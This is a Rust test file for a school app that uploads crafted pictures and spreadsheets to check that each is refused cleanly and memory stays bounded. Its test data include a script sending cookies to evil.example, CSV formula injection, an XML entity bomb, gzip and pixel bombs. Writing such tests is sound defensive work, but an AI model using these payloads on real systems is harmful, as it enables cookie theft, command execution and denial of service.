//! A thousand crafted files: each is refused with a sentence, none takes the server
//! down or its memory up, and what is right is taken after them as before.
#![expect(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    reason = "a test that cannot go on stops loudly"
)]

use std::io::{Cursor, Write as _};
use std::path::Path;
use std::process::Command;

use flate2::Compression;
use flate2::write::GzEncoder;
use houqin_testkit::served::{School, agent, grey_point};
use serde_json::Value as Json;
use zip::write::SimpleFileOptions;

/// Most memory the server may have held after all pictures, in KiB.
const SERVER_KIB_MAX: u64 = 200 * 1024;
/// Most address space of an import, in KiB: it is killed beyond.
const IMPORT_KIB_MAX: u64 = 3 * 1024 * 1024;
const PICTURES: usize = 900;
const SHEETS: usize = 100;

/// A small generator, so that a failing run can be repeated.
struct Chance(u64);

impl Chance {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn bytes(&mut self, many: usize) -> Vec<u8> {
        (0..many).map(|_| self.next().to_le_bytes()[0]).collect()
    }
}

/// A file that says it is a picture, or is made to be taken for one.
fn picture(number: usize, chance: &mut Chance) -> Vec<u8> {
    let many = usize::try_from(chance.next() % 4_000).unwrap();
    let noise = chance.bytes(many);
    let side = u32::try_from(9_000 + chance.next() % 60_000).unwrap();
    let short = u16::try_from(9_000 + chance.next() % 50_000).unwrap().to_be_bytes();
    let script = b"<script>fetch('//evil.example/'+document.cookie)</script>";
    match number % 12 {
        0 => [b"<svg xmlns='http://www.w3.org/2000/svg'>", &script[..], b"</svg>"].concat(),
        1 => [&b"\xef\xbb\xbf<?xml version='1.0'?><svg onload='alert(1)'>"[..], &noise].concat(),
        2 => [&b"<!doctype html>"[..], script, &noise].concat(),
        3 => {
            let heads: [&[u8]; 6] =
                [b"GIF89a", b"BM", b"II*\0", b"%PDF-1.7\n", b"PK\x03\x04", b"\x7fELF"];
            [heads[number / 12 % heads.len()], script, &noise].concat()
        }
        // A hundred megapixels and far more, in a hundred bytes.
        4 => {
            let head = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR";
            let tail = b"\x08\x02\0\0\0\0\0\0\0\0\0\0\0IDAT\0\0\0\0\0\0\0\0IEND\0\0\0\0";
            [&head[..], &side.to_be_bytes(), &side.to_be_bytes(), tail].concat()
        }
        5 => {
            let frame = [&b"\xff\xd8\xff\xc0\0\x0b\x08"[..], &short, &short, b"\x01\x01\x11\0"];
            [&frame.concat()[..], b"\xff\xda\0\x08\x01\x01\0\0\x3f\0", b"\0\xff\xd9"].concat()
        }
        6 => {
            let wide = &side.to_le_bytes()[..3];
            let body = [&[0, 0, 0, 0][..], wide, wide].concat();
            [&b"RIFF\x16\0\0\0WEBPVP8X\x0a\0\0\0"[..], &body].concat()
        }
        // Cut short, lengths that lie, and noise behind the right first bytes.
        7 => {
            let whole = grey_point();
            let cut = 9 + number % (whole.len() - 9);
            whole[..cut].to_vec()
        }
        8 => [&b"\x89PNG\r\n\x1a\n\xff\xff\xff\xffIDAT"[..], &noise].concat(),
        9 => [&b"\xff\xd8\xff\xe1\xff\xffExif\0\0MM\0*\xff\xff\xff\xff"[..], script].concat(),
        10 => [&b"\0\0\0\x18ftypheic\0\0\0\0mif1"[..], &noise].concat(),
        // Two kinds at once: a picture's first bytes before an archive.
        _ => [&b"\xff\xd8\xffPK\x03\x04"[..], &noise, b"PK\x05\x06", script].concat(),
    }
}

fn most_kib(process: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{process}/status")).unwrap();
    let line = status.lines().find(|line| line.starts_with("VmHWM:")).unwrap();
    line.split_whitespace().nth(1).unwrap().parse().unwrap()
}

#[test]
fn nine_hundred_crafted_pictures_are_refused_with_a_sentence() {
    let school = School::begin(Path::new(env!("CARGO_BIN_EXE_houqin")), None);
    let served = school.serve();
    let token = &school.people.teacher.token;
    let (agent, mut chance) = (agent(), Chance(20_261_125));
    for number in 0..PICTURES {
        let file = picture(number, &mut chance);
        let mut answer = agent
            .post(format!("{}/api/v1/photos", served.origin))
            .header("authorization", format!("Bearer {token}"))
            .send(&file[..])
            .unwrap();
        assert_eq!(answer.status(), 422, "file {number}");
        let told: Json = answer.body_mut().read_json().unwrap();
        let message = told["message"].as_str().unwrap();
        assert!(message.ends_with('。'), "file {number}: {told}");
    }
    let huge = vec![0_u8; 13 * 1024 * 1024];
    let request = agent.post(format!("{}/api/v1/photos", served.origin));
    let answer = request.header("authorization", format!("Bearer {token}")).send(&huge[..]);
    // The server may close before it has heard all of it.
    assert!(answer.map_or(true, |answer| answer.status().is_client_error()));
    served.photo(token);
    let kib = most_kib(served.id());
    assert!(kib < SERVER_KIB_MAX, "{kib} KiB");
    served.stop();
}

fn zipped(parts: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in parts {
        zip.start_file(*name, SimpleFileOptions::default()).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

fn gz(bytes: &[u8]) -> Vec<u8> {
    let mut packed = GzEncoder::new(Vec::new(), Compression::best());
    packed.write_all(bytes).unwrap();
    packed.finish().unwrap()
}

/// A file that says it is a sheet of people.
fn sheet(number: usize, chance: &mut Chance) -> (&'static str, Vec<u8>) {
    let many = usize::try_from(10 + chance.next() % 4_000).unwrap();
    let noise = chance.bytes(many);
    let head = b"number,name,kind\n";
    match number % 10 {
        0 => ("csv", [&head[..], &[0xff, 0xfe, 0x80], &noise].concat()),
        1 => ("csv", [&head[..], b"T1,Wang,\"=cmd|' /C calc'!A0\"\n"].concat()),
        2 => ("csv", [&b"number,number,name,kind\n1,2,3,4\n"[..]].concat()),
        3 => ("csv", [&head[..], "T1,".as_bytes(), &vec![b'x'; 2_000_000], b",staff\n"].concat()),
        4 => ("csv.gz", gz(&vec![b'a'; 40_000_000])),
        5 => ("csv.gz", gz(&noise)[..8].to_vec()),
        6 => ("xlsx", zipped(&[("xl/sharedStrings.xml", vec![b' '; 30_000_000])])),
        7 => ("xlsx", [&b"PK\x03\x04"[..], &noise].concat()),
        8 => {
            let lol = "<!DOCTYPE a [<!ENTITY b \"lol\"><!ENTITY c \"&b;&b;&b;&b;\">]><a>&c;</a>";
            (
                "xlsx",
                zipped(&[("[Content_Types].xml", lol.into()), ("xl/workbook.xml", lol.into())]),
            )
        }
        _ => ("csv", Vec::new()),
    }
}

#[test]
fn a_hundred_crafted_sheets_are_refused_and_nothing_is_applied() {
    let program = Path::new(env!("CARGO_BIN_EXE_houqin"));
    let school = School::begin(program, None);
    let before = school.runs(&["audit", "--replay", "--json"]);
    let (folder, mut chance) = (tempfile::tempdir().unwrap(), Chance(20_261_126));
    for number in 0..SHEETS {
        let (kind, bytes) = sheet(number, &mut chance);
        let path = folder.path().join(format!("{number}.{kind}"));
        std::fs::write(&path, bytes).unwrap();
        let out = Command::new("sh")
            .arg("-c")
            .arg(format!("ulimit -v {IMPORT_KIB_MAX}; exec \"$@\""))
            .args(["sh", program.to_str().unwrap(), "import", "people", path.to_str().unwrap()])
            .args(["--login", "zhuren", "--data", school.data.path().to_str().unwrap()])
            .output()
            .unwrap();
        // A file is refused on stderr, its rows by name on stdout.
        let told = String::from_utf8([out.stderr, out.stdout].concat()).unwrap();
        assert_eq!(out.status.code(), Some(1), "{number}.{kind}: {told}");
        assert!(!told.trim().is_empty() && told.len() < 4_000, "{number}.{kind}: {told}");
        assert!(!told.contains("panicked"), "{number}.{kind}: {told}");
        std::fs::remove_file(path).unwrap();
    }
    assert_eq!(school.runs(&["audit", "--replay", "--json"]), before);
}
